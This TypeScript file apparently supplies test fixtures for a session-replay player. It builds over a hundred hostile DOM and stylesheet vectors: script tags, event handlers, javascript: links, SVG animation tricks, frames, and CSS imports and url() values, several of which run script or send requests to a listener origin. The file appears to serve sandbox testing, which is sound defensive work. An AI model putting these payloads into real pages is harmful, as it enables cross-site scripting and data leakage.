type Raw = Record<string, unknown>;
export interface HostileNode extends Raw {
  type: number;
  childNodes?: HostileNode[];
}
export interface HostileVector {
  name: string;
  nodes: HostileNode[];
}

const el = (tagName: string, attributes: Raw = {}, childNodes: HostileNode[] = [], more: Raw = {}): HostileNode => ({
  ...{ type: 2, tagName, attributes, childNodes },
  ...more,
});
const svg = (tagName: string, attributes: Raw = {}, childNodes: HostileNode[] = []) =>
  el(tagName, attributes, childNodes, { isSVG: true });
const text = (textContent: string): HostileNode => ({ type: 3, textContent });
const css = (...texts: string[]) => el('style', {}, texts.map(text));
const data = (type: string, body: string) => `data:${type},${encodeURIComponent(body)}`;

/**
 * Ways to run something in the host's browser, or to have it ask for something. `http`: origin of a listener;
 * `tcp`: that of one that only counts connections.
 */
export function hostileVectors(http: string, tcp: string): HostileVector[] {
  let count = 0;
  const url = (end = '') => `${http}/${count}${end}`;
  const js = () => `top.pwned=1;parent.pwned=1;window.pwned=1;new Image().src='${url('/js')}'`;
  const list: [string, () => HostileNode | HostileNode[]][] = [
    // Scripts
    ['script', () => el('script', {}, [text(js())])],
    ['script with address', () => el('script', { src: url('.js') })],
    ['SCRIPT in capitals', () => el('SCRIPT', {}, [text(js())])],
    ['module script', () => el('script', { type: 'module', src: url('.mjs') })],
    ['script in svg', () => svg('svg', {}, [svg('script', { href: url('.js') }, [text(js())])])],
    ['script with svg name in HTML', () => el('svg', {}, [el('script', {}, [text(js())])])],
    ['image that fails', () => el('img', { src: 'x:x', onerror: js() })],
    ['image with address that fails', () => el('img', { src: url(), onerror: js() })],
    ['body load', () => el('body', { onload: js(), onpageshow: js() })],
    ['autofocus', () => el('input', { autofocus: true, onfocus: js() })],
    ['details toggle', () => el('details', { open: true, ontoggle: js() }, [el('summary')])],
    ['video source error', () => el('video', {}, [el('source', { src: url(), onerror: js() })])],
    [
      'animation start',
      () => [css('@keyframes k{}i{animation:k 1s}'), el('i', { onanimationstart: js() }, [text('x')])],
    ],
    ['svg load', () => svg('svg', { onload: js() })],
    ['svg animate begin', () => svg('svg', {}, [svg('animate', { onbegin: js(), attributeName: 'x', dur: '1s' })])],
    ['marquee', () => el('marquee', { onstart: js(), behavior: 'alternate' }, [text('x')])],
    ['pointer handlers', () => el('div', { onpointerrawupdate: js(), onmouseover: js(), onclick: js() }, [text('x')])],
    ['handler in capitals', () => el('img', { src: 'x:x', ONERROR: js() })],
    ['javascript link', () => el('a', { href: `javascript:${js()}` }, [text('x')])],
    ['javascript link with breaks', () => el('a', { href: ` java\nscript:${js()}` }, [text('x')])],
    [
      'javascript link in svg',
      () => svg('svg', {}, [svg('a', { 'xlink:href': `javascript:${js()}` }, [svg('text', {}, [text('x')])])]),
    ],
    ['javascript link in MathML', () => el('math', {}, [el('mi', { href: `javascript:${js()}` }, [text('x')])])],
    ['javascript form', () => el('form', { action: `javascript:${js()}` }, [el('button', {}, [text('x')])])],
    ['javascript formaction', () => el('form', {}, [el('button', { formaction: `javascript:${js()}` }, [text('x')])])],
    [
      'animated href',
      () =>
        svg('svg', {}, [
          svg('a', { href: '#' }, [
            svg('animate', { attributeName: 'href', values: `javascript:${js()}`, dur: '1s', fill: 'freeze' }),
            svg('text', {}, [text('x')]),
          ]),
        ]),
    ],
    [
      'set href',
      () => svg('svg', {}, [svg('a', {}, [svg('set', { attributeName: 'xlink:href', to: `javascript:${js()}` })])]),
    ],
    ['set handler', () => svg('svg', {}, [svg('set', { attributeName: 'onmouseover', to: js() })])],
    [
      'set by reference',
      () => svg('svg', {}, [svg('image', { id: 'v' }), svg('set', { href: '#v', attributeName: 'href', to: url() })]),
    ],
    // Frames and documents
    ['frame with address', () => el('iframe', { src: url('.html') })],
    ['frame with javascript', () => el('iframe', { src: `javascript:${js()}` })],
    ['frame with srcdoc', () => el('iframe', { srcdoc: `<script>${js()}</script><img src="${url()}">` })],
    ['frame with data', () => el('iframe', { src: data('text/html', `<script>${js()}</script>`) })],
    ['frame in svg', () => svg('svg', {}, [svg('foreignObject', {}, [el('iframe', { src: url('.html') })])])],
    ['frameset', () => el('frameset', { onload: js() }, [el('frame', { src: url('.html') })])],
    ['object', () => el('object', { data: url('.html'), type: 'text/html' })],
    [
      'object with svg',
      () =>
        el('object', {
          data: data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${js()}</script></svg>`),
        }),
    ],
    ['embed', () => el('embed', { src: url('.swf') })],
    ['applet', () => el('applet', { code: 'x', codebase: url() })],
    ['portal and fenced frame', () => [el('portal', { src: url() }), el('fencedframe', { src: url() })]],
    ['meta refresh', () => el('meta', { 'http-equiv': 'refresh', content: `0;url=${url('.html')}` })],
    [
      'meta refresh disguised',
      () => el('meta', { name: 'color-scheme', 'http-equiv': 'refresh', content: `0;url=${url()}` }),
    ],
    [
      'meta policy',
      () => el('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${url()}` }),
    ],
    ['base', () => [el('base', { href: `${http}/` }), el('img', { src: `${count}/base` })]],
    [
      'second html, head and body',
      () =>
        el('html', { manifest: url() }, [
          el('head', {}, [el('link', { rel: 'stylesheet', href: url() })]),
          el('body', { background: url() }),
        ]),
    ],
    // Links
    ['preconnect', () => el('link', { rel: 'preconnect', href: tcp })],
    ['preconnect that comes by rel', () => el('link', { href: tcp, rel: 'dns-prefetch preconnect', crossorigin: '' })],
    [
      'prefetch, preload, prerender',
      () =>
        ['prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'next'].map((rel) =>
          el('link', { rel, as: 'image', href: url(`/${rel}`) }),
        ),
    ],
    ['style sheet by link', () => el('link', { rel: 'stylesheet', href: url('.css') })],
    ['link in svg', () => svg('svg', {}, [svg('link', { rel: 'stylesheet', href: url('.css') })])],
    [
      'speculation rules',
      () => el('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${url()}"]}]}`)]),
    ],
    ['ping', () => el('a', { href: url('/nav'), ping: url('/ping'), target: '_blank' }, [text('x')])],
    ['download', () => el('a', { href: url('/nav'), download: 'x.exe', target: '_top' }, [text('x')])],
    [
      'map',
      () => [
        el('img', { usemap: '#m', src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
        el('map', { name: 'm' }, [el('area', { href: url('/nav'), coords: '0,0,9,9' })]),
      ],
    ],
    [
      'popover and command',
      () => [
        el('button', { popovertarget: 'p', commandfor: 'p', command: 'show-modal' }, [text('x')]),
        el('dialog', { id: 'p', onbeforetoggle: js() }),
      ],
    ],
    // Pictures and media
    ['image', () => el('img', { src: url('.png') })],
    ['image without scheme', () => el('img', { src: url().replace('http:', '') })],
    ['image with srcset', () => el('img', { srcset: `${url('/1')} 1x, ${url('/2')} 2x`, sizes: '1px' })],
    ['image kept as data', () => el('img', { src: 'data:,', rr_dataURL: url() })],
    ['picture', () => el('picture', {}, [el('source', { srcset: url() }), el('img')])],
    ['image input', () => el('input', { type: 'image', src: url() })],
    ['image by asset form', () => el('img', { src: 'asset:1', 'data-beside-asset-src': url() })],
    ['lazy and decoded', () => el('img', { loading: 'eager', fetchpriority: 'high', src: ` ${url()}` })],
    [
      'video and poster',
      () =>
        el('video', {
          src: url('.mp4'),
          poster: url('.png'),
          autoplay: true,
          rr_mediaState: 'played',
          preload: 'auto',
        }),
    ],
    [
      'audio',
      () =>
        el('audio', { src: url('.mp3'), autoplay: true }, [
          el('source', { src: url('/2') }),
          el('track', { src: url('.vtt'), default: true }),
        ]),
    ],
    [
      'backgrounds',
      () => el('table', { background: url('/1') }, [el('tr', {}, [el('td', { background: url('/2') })])]),
    ],
    ['canvas', () => el('canvas', { rr_dataURL: url(), width: 1e9, height: 1e9 })],
    [
      'svg image',
      () => svg('svg', {}, [svg('image', { href: url('/1'), 'xlink:href': url('/2'), width: 9, height: 9 })]),
    ],
    [
      'svg use',
      () =>
        svg('svg', {}, [
          svg('use', { href: url('.svg#x') }),
          svg('use', {
            href: data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${js()}"/>`) + '#x',
          }),
        ]),
    ],
    [
      'svg use of a part of an asset',
      () =>
        svg('svg', {}, [
          svg('use', { href: `asset:1#x" onload="${js()}` }),
          svg('use', { href: `asset:1#x`, 'xlink:href': url('.svg#x'), 'data-beside-asset-part': url() }),
          svg('use', { href: `asset:1${url()}#x` }),
          svg('use', { 'data-beside-asset-href': url('.svg'), 'data-beside-asset-part': 'x' }),
        ]),
    ],
    [
      'svg filter image',
      () =>
        svg('svg', {}, [
          svg('filter', { id: 'f' }, [svg('feImage', { href: url() })]),
          svg('rect', { filter: 'url(#f)', width: 9, height: 9 }),
        ]),
    ],
    [
      'svg paint',
      () =>
        svg('svg', {}, [
          svg('rect', {
            fill: `url(${url('#x')})`,
            stroke: `url('${url('#y')}')`,
            mask: `url(${url('/m')})`,
            'clip-path': `u\\72l(${url('#c')})`,
            width: 9,
            height: 9,
          }),
        ]),
    ],
    [
      'svg marker, cursor and gradient',
      () =>
        svg('svg', {}, [
          svg('path', { d: 'M0 0L9 9', 'marker-end': `url(${url('#m')})`, cursor: `url(${url('/c')}),auto` }),
          svg('linearGradient', { href: url('#g') }),
          svg('textPath', { href: url('#t') }),
        ]),
    ],
    ['svg style', () => svg('svg', {}, [svg('style', {}, [text(`@import "${url()}";`)])])],
    // Style sheets
    ['import', () => css(`@import "${url()}";`)],
    ['import with escapes', () => css(`@\\69 mport url(${url()});`)],
    ['import in two texts', () => css('@imp', `ort "${url()}";`)],
    ['address in two texts', () => css('i{background:u\\72 ', `l(${url()})}`)],
    ['address in three texts', () => css('i{background:url(', '"', `${url()}")}`)],
    ['import in _cssText', () => el('style', { _cssText: `@import "${url()}";i{background:url(${url('/2')})}` })],
    [
      'texts cut out of _cssText',
      () =>
        el('style', { _cssText: `i{content:"/* rr_split */"}i{background:url(${url()})}/* rr_split */"}` }, [
          text(''),
          text(''),
          text(''),
        ]),
    ],
    [
      'link with _cssText',
      () => el('link', { rel: 'stylesheet', href: url('/1'), _cssText: `@import "${url('/2')}";` }),
    ],
    ['background', () => [css(`i{display:block;background:url(${url()})}`), el('i', {}, [text('x')])]],
    [
      'every property with an address',
      () => [
        css(
          `i{display:list-item;list-style-image:url(${url('/1')});border-image-source:url(${url('/2')});mask:url(${url('/3')});clip-path:url(${url('/4#c')});filter:url(${url('/5#f')});backdrop-filter:url(${url('/6#f')});cursor:url(${url('/7')}),auto;content:url(${url('/8')});shape-outside:url(${url('/9')});offset-path:url(${url('/10#p')});-webkit-mask-box-image:url(${url('/11')});-moz-binding:url(${url('/12')});behavior:url(${url('/13')})}`,
        ),
        el('i', {}, [text('x')]),
      ],
    ],
    [
      'image-set',
      () => [
        css(
          `i{display:block;background:image-set("${url('/1')}" 1x,url(${url('/2')}) 2x)}b{background:-webkit-image-set("${url('/3')}" 1x)}`,
        ),
        el('i', {}, [text('x'), el('b', {}, [text('x')])]),
      ],
    ],
    [
      'image-set by variable',
      () => [css(`i{--u:"${url()}";background:image-set(var(--u) 1x)}`), el('i', {}, [text('x')])],
    ],
    [
      'address by variable',
      () => [css(`:root{--u:url(${url()})}i{background:var(--u)}`), el('i', { style: '--v:"x"' }, [text('x')])],
    ],
    [
      'address by attribute',
      () => [
        css('i{background:image-set(attr(title) 1x);content:attr(title type(<url>))}'),
        el('i', { title: url() }, [text('x')]),
      ],
    ],
    ['src function', () => [css(`i{background:src("${url()}")}`), el('i', {}, [text('x')])]],
    [
      'font',
      () => [
        css(`@font-face{font-family:v;src:url(${url('.woff2')}) format("woff2")}i{font-family:v}`),
        el('i', {}, [text('x')]),
      ],
    ],
    [
      'value read out by address',
      () => [css(`input[value^="a"]{background:url(${url('/a')})}`), el('input', { value: 'abc' })],
    ],
    ['hover', () => [css(`i:hover,i.\\:hover{background:url(${url()})}`), el('i', { class: ':hover' }, [text('x')])]],
    [
      'nested rules',
      () => [css(`@media all{@supports (color:red){i{&{background:url(${url()})}}}}`), el('i', {}, [text('x')])],
    ],
    [
      'namespace and document rules',
      () => css(`@namespace url(${url('/1')});@-moz-document url(${url('/2')}){i{color:red}}`),
    ],
    [
      'property and counter style',
      () => [
        css(
          `@property --p{syntax:"<image>";inherits:false;initial-value:url(${url('/1')})}@counter-style c{system:cyclic;symbols:url(${url('/2')})}i{background:var(--p);list-style:c;display:list-item}`,
        ),
        el('i', {}, [text('x')]),
      ],
    ],
    ['comment that opens out of nothing', () => css(`i{}/@import "x";* "*/i{background:url(${url()})}"`)],
    [
      'inline style',
      () =>
        el('i', { style: `display:block;background:url(${url('/1')});list-style:u\\72l('${url('/2')}')` }, [text('x')]),
    ],
    [
      'inline style as parts',
      () =>
        el(
          'i',
          {
            style: {
              background: `url(${url('/1')})`,
              '--x': `url(${url('/2')})`,
              filter: [`url(${url('/3#f')})`, 'important'],
            },
          },
          [text('x')],
        ),
    ],
    // Names and shapes
    [
      'names that stand in the way',
      () =>
        [
          'implementation',
          'createElement',
          'defaultView',
          'documentElement',
          'childNodes',
          'head',
          'close',
          '__proto__',
        ].flatMap((name) => [
          el('form', { name, id: name }, [el('input', { name: 'childNodes', id: 'appendChild' })]),
          el('img', { name }),
        ]),
    ],
    [
      'names that are none',
      () => [
        el('x y', { 'a"b': '1' }),
        el('<img>', {}),
        el('a\0b', {}),
        el('', {}),
        el('font-face', {}, [], { isCustom: true }),
        el('X-Y-', {}, [], { isCustom: true }),
      ],
    ],
    ['built-in by is', () => el('button', { is: 'x-evil' }, [], { isCustom: true })],
    [
      'shadow root with style',
      () =>
        el(
          'div',
          {},
          [
            { ...css(`:host{background:url(${url()})}`), isShadow: true },
            { ...el('script', {}, [text(js())]), isShadow: true },
          ],
          { isShadowHost: true },
        ),
    ],
    ['shadow root where none can be', () => el('img', {}, [{ ...el('p'), isShadow: true }], { isShadowHost: true })],
    [
      'document in a document',
      () => [
        { type: 0, childNodes: [el('html', {}, [el('head'), el('body', {}, [el('script', {}, [text(js())])])])] },
        el('iframe', {}, [
          {
            type: 0,
            childNodes: [el('html', {}, [el('head'), el('body', { onload: js() }, [el('img', { src: url() })])])],
          },
        ]),
      ],
    ],
    [
      'template and noscript',
      () => [el('template', {}, [el('img', { src: url('/1') })]), el('noscript', {}, [el('img', { src: url('/2') })])],
    ],
    ['declarative shadow root', () => el('template', { shadowrootmode: 'open' }, [el('img', { src: url() })])],
  ];
  return list.map(([name, make]) => {
    count += 1;
    return { name: `${count} ${name}`, nodes: [make()].flat() };
  });
}

/** Changes of sheets, each with an address in it. `style`: id of a style element, `text`: of the text in it. */
export function hostileStyleChanges(
  http: string,
  { style, text: textId, body }: { style: number; text: number; body: number },
): Raw[] {
  const at = (name: string) => `url(${http}/sheet/${name})`;
  const mutation = (part: Raw) => ({ source: 0, texts: [], attributes: [], removes: [], adds: [], ...part });
  return [
    { source: 8, id: style, adds: [{ rule: `body{background:${at('rule')}}`, index: 0 }] },
    { source: 8, id: style, adds: [{ rule: `@import ${at('import')};`, index: 0 }] },
    { source: 13, id: style, index: [0], set: { property: 'background', value: at('declaration') } },
    { source: 13, id: style, index: [0], set: { property: '--x', value: `x;background:${at('custom')}` } },
    {
      source: 15,
      id: 1,
      styleIds: [7],
      styles: [{ styleId: 7, rules: [{ rule: `body{background:${at('adopted')}}`, index: 0 }] }],
    },
    { source: 8, styleId: 7, replaceSync: `body{background:${at('replaced')}}` },
    { source: 8, styleId: 7, replace: `body{background:${at('replaced-later')}}` },
    mutation({ texts: [{ id: textId, value: `@import ${at('text')};` }] }),
    // The text of an element would be taken for its only child.
    mutation({ texts: [{ id: style, value: `@import ${at('element-text')};` }] }),
    mutation({ attributes: [{ id: style, attributes: { _cssText: `@import ${at('attribute')};` } }] }),
    mutation({ attributes: [{ id: body, attributes: { style: { background: at('part') } } }] }),
    { source: 2, type: 2, id: body, x: 1, y: 1 },
  ].map((change) => ({ type: 3, timestamp: 5, data: change }));
}
